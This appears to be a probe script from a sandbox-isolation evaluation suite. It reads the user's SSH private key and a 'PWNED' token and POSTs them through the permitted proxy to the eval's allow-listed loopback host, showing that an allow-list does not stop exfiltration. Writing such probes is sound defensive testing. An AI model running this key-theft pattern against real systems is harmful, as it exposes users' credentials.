# family: injection
# tries: through stockade-proxy, an ordinary POST of the SSH key and a PWNED marker to the one host the allow-list names (the eval's index)
# source: https://attack.mitre.org/techniques/T1567/
# exfil: yes
# by-design: allowed-host-exit
# stopped-when: canary-unread, pwned-absent
# attempted-when: marker
# Not stopped, by design: an allow-list decides where a job may connect,
# not what it says there. The allowed host is an exit (docs/threat-model.md):
# the key reaches the index, and the eval shows it (index).
import os
import socket
import sys

if len(sys.argv) < 9:
    sys.exit("usage: TOKEN HOME HOSTTMP TCP UDP UNIX DECOY USERFILES")
token, home, port = sys.argv[1], sys.argv[2], int(sys.argv[4])
# The SSH key where the jail lets it be read; with it, always, the proof
# of delivery "PWNED <token>": the token stands for what a job has by
# design (its workspace), which an allow-list must keep in just as well.
try:
    with open(os.path.join(home, ".ssh/id_ed25519"), "rb") as f:
        loot = f.read()
except OSError as e:
    print(f"key: {e.strerror}")
    loot = b""
loot += f"\nPWNED {token}\n".encode()
# The proxy the jail names (HTTP_PROXY=http://127.0.0.1:3128), if any.
proxy = os.environ.get("HTTP_PROXY", "")
pxhost, _, pxport = proxy.removeprefix("http://").rstrip("/").rpartition(":")
print(f"ATTEMPTED {token}", file=sys.stderr, flush=True)


def talk(data, host=pxhost, port=int(pxport or 0), wait=2.0):
    """Sends DATA to HOST:PORT; what came back (at most 4 KiB) or the error."""
    try:
        with socket.create_connection((host, port), timeout=wait) as s:
            s.sendall(data)
            return s.recv(4096)
    except OSError as e:
        return repr(e).encode()


if not proxy:
    # No proxy here (a column without the allow-list): the same bytes
    # straight to the host's loopback, which only isolation stops.
    print("no proxy:", talk(loot, "127.0.0.2", port)[:60])
    sys.exit(0)
ok = f"127.0.0.2:{port}".encode()
req = (b"POST http://" + ok + b"/upload HTTP/1.1\r\nHost: " + ok + b"\r\nContent-Length: " +
       str(len(loot)).encode() + b"\r\n\r\n" + loot)
print("allowed host", talk(req)[:40])
